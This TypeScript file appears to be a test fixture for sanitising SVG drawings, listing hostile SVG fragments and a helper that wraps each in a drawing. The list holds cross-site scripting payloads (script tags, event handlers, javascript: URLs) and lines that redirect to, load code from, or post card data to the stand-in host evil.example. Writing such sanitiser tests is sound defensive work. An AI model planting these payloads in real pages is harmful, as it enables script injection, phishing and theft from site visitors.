/** Drawings that would do harm if they stood in a page as they are. */

/** What an owner may be talked into putting there, or what a drawing program leaves behind. */
export const WAYS_INTO_THE_PAGE: readonly string[] = [
  '</svg><meta http-equiv="refresh" content="0;url=https://evil.example"><svg>',
  "<script>alert(1)</script>",
  '<script href="https://evil.example/a.js"/>',
  '<g onclick="alert(1)"/>',
  "<g onload\n=alert(1)/>",
  '<g/onmouseover="alert(1)"/>',
  '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  '<a xlink:href="https://evil.example"><rect width="9" height="9"/></a>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
  '<image href="https://evil.example/pixel.png"/>',
  '<use href="data:image/svg+xml,%3Csvg/%3E"/>',
  "<style>@import url(https://evil.example/a.css)</style>",
  '<h1 xmlns="http://www.w3.org/1999/xhtml">Pay here</h1>',
  '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="card"/></form>',
];

export function drawingWith(inside: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1600 620"><title>A hill</title>${inside}</svg>`;
}
